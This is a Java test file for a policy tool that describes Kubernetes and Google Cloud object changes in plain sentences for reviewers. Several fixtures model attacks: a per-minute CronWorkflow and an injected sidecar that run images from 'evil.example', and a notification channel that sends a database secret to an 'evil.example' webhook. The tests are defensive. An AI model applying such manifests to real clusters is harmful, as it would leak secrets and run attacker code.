package dev.tenantry.policy.meaning;

import static dev.tenantry.policy.GuardedEstate.ESTATE;
import static org.assertj.core.api.Assertions.assertThat;

import dev.tenantry.policy.Attack;
import dev.tenantry.policy.GuardedEstate;
import dev.tenantry.policy.PaperPolicy;
import java.util.List;
import org.junit.jupiter.api.Test;

/** An object that comes is said with what it does, and not by its name alone. */
class NewObjectsTest {

    private static List<String> said(String path, String text) {
        return AccessChanges.of(ESTATE.to(ESTATE.with(path, text)), ESTATE, PaperPolicy.NOW)
                .stream()
                .map(change -> change.sentence().text())
                .toList();
    }

    private static List<String> said(String group, String kind, String spec) {
        return said("tenants/acme-retail/x/x.yaml", Attack.object(group, kind, spec));
    }

    @Test
    void aScheduleWithItsTimeItsAccountAndItsImages() {
        assertThat(
                        said(
                                "argoproj.io/v1alpha1",
                                "CronWorkflow",
                                "spec: {schedules: ['* * * * *'], workflowSpec: {serviceAccountName: trainer, templates: [{name: a, container: {image: 'evil.example/x:1'}}]}}"))
                .contains(
                        "Adds a schedule thing of tenant acme-retail, at * * * * *, as trainer, with"
                                + " evil.example/x:1.");
    }

    @Test
    void whatItIsCalledAtGoogleAndTheClassOfItsData() {
        assertThat(
                        said(
                                "storage." + Attack.KCC,
                                "StorageBucket",
                                "spec: {resourceID: payroll-exports, location: EU}"))
                .contains(
                        "Adds a bucket thing of tenant acme-retail, which is payroll-exports at"
                                + " Google, whose data has no class.");
        String bucket = ESTATE.text(GuardedEstate.BUCKET).replace("acme-retail-kept", "another");
        assertThat(said("tenants/acme-retail/x/x.yaml", bucket))
                .contains(
                        "Adds a bucket another of tenant acme-retail, whose data counts as restricted.");
    }

    @Test
    void aConfigMapWithWhatItHoldsAndAnApiWithItsArticle() {
        assertThat(said("v1", "ConfigMap", "data: {main.py: a, image: b}"))
                .contains("Adds a ConfigMap thing of tenant acme-retail, with main.py, image.");
        assertThat(said("serviceusage." + Attack.KCC, "Service", "spec: {}"))
                .contains("Adds an enabled API thing of tenant acme-retail.");
    }

    @Test
    void anApplicationWithWhatItAppliesAndWhere() {
        String more =
                ESTATE.text(GuardedEstate.APPLICATION)
                        .replace("name: pools", "name: more")
                        .replace("node-pools", "new")
                        .replace("namespace: kcc-factory", "namespace: cnrm-system");
        assertThat(said("argocd/apps/more.yaml", more))
                .contains(
                        "Adds an Argo CD application more, which applies platform/new, in namespace"
                                + " cnrm-system.");
    }

    @Test
    void aChannelWithWhomItTells() {
        assertThat(
                        said(
                                "monitoring." + Attack.KCC,
                                "MonitoringNotificationChannel",
                                "spec: {type: webhook_basicauth, labels: {url: 'https://evil.example/'}, sensitiveLabels: {password: {valueFrom: {secretKeyRef: {name: database, key: p}}}}}"))
                .contains(
                        "Adds a notification channel thing of tenant acme-retail, which tells"
                                + " webhook_basicauth https://evil.example/ and sends secret"
                                + " database.");
    }

    @Test
    void aWorkloadWithItsAccount() {
        String account =
                Attack.object("v1", "ServiceAccount", "")
                        .replace(
                                "name: thing",
                                "name: thing, annotations: {iam.gke.io/gcp-service-account: a@platform-prod.iam.gserviceaccount.com}");
        assertThat(said("platform/x.yaml", account))
                .anyMatch(text -> text.contains("which acts by a@platform-prod"));
    }

    @Test
    void whatComesIntoATemplateIsSaidWhole() {
        String template =
                ESTATE.text(GuardedEstate.TEMPLATE)
                        .replace(
                                "  - name: main\n",
                                "  - name: main\n    sidecars: [{name: s, image: 'evil.example/x'}]\n");
        assertThat(said(GuardedEstate.TEMPLATE, template))
                .contains(
                        "Changes the workflow template train of tenant acme-retail:"
                                + " templates[main].sidecars with s.")
                .contains("Steps of workflow template train run evil.example/x besides.");
    }
}
